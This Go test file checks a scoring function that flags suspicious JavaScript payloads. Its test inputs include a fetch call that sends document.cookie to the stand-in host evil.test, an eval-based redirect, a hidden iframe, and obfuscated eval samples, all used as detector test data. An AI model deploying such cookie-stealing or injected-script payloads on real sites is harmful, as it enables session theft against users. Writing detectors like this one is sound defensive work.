package instrument_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/raysh454/qssage/internal/instrument"
)

func TestScorePayload_Combinations(t *testing.T) {
	tests := []struct {
		name    string
		payload string
		min     int
		flagged bool
	}{
		{"eval with redirect", `eval("window.location.href='http://evil.test'")`, 15, true},
		{"eval with document write", `eval("document.write('<p>hi</p>')")`, 15, true},
		{"cookie exfiltration", `fetch('https://evil.test/c?d='+document.cookie)`, 12, true},
		{"hidden iframe", `<iframe src="https://evil.test" style="display:none"></iframe>`, 10, true},
		{"nested decode", `eval(atob('ZG9jdW1lbnQ='))`, 10, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := instrument.ScorePayload(tt.payload)
			assert.GreaterOrEqual(t, got, tt.min)
			assert.Equal(t, tt.flagged, instrument.PayloadSuspicious(tt.payload))
		})
	}
}

func TestScorePayload_ExactTallies(t *testing.T) {
	assert.Equal(t, 0, instrument.ScorePayload(""))
	assert.Equal(t, 0, instrument.ScorePayload("hello world"))
	assert.Equal(t, 4, instrument.ScorePayload(`\x68\x65\x6c\x6c\x6f`))
	assert.Equal(t, 2, instrument.ScorePayload(strings.Repeat("a", 101)))
	assert.Equal(t, 6, instrument.ScorePayload(strings.Repeat("a", 301)))
	assert.Equal(t, 7, instrument.ScorePayload(`window['location']`))
	assert.Equal(t, 3, instrument.ScorePayload(`'ev'+'a'+'l'+'(x)'`))
	assert.Equal(t, 3, instrument.ScorePayload(`var _0x1a2b = 1`))
}

func TestScorePayload_LengthCountsCharacters(t *testing.T) {
	// 60 characters, 180 bytes
	assert.Equal(t, 0, instrument.ScorePayload(strings.Repeat("가", 60)))
	assert.Equal(t, 2, instrument.ScorePayload(strings.Repeat("가", 101)))
	assert.Equal(t, 6, instrument.ScorePayload(strings.Repeat("가", 301)))
}

func TestScorePayload_AdVendorSuppression(t *testing.T) {
	analytics := `window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);} ` +
		`gtag('js', new Date()); gtag('config', 'UA-1');`
	assert.Equal(t, 0, instrument.ScorePayload(analytics))
	assert.False(t, instrument.PayloadSuspicious(analytics))

	assert.Equal(t, 0, instrument.ScorePayload("googletagmanager"))
}

func TestScorePayload_Deterministic(t *testing.T) {
	p := `eval(unescape('%u0061')); document.cookie; fetch('/x')`
	first := instrument.ScorePayload(p)
	for i := 0; i < 5; i++ {
		assert.Equal(t, first, instrument.ScorePayload(p))
	}
}
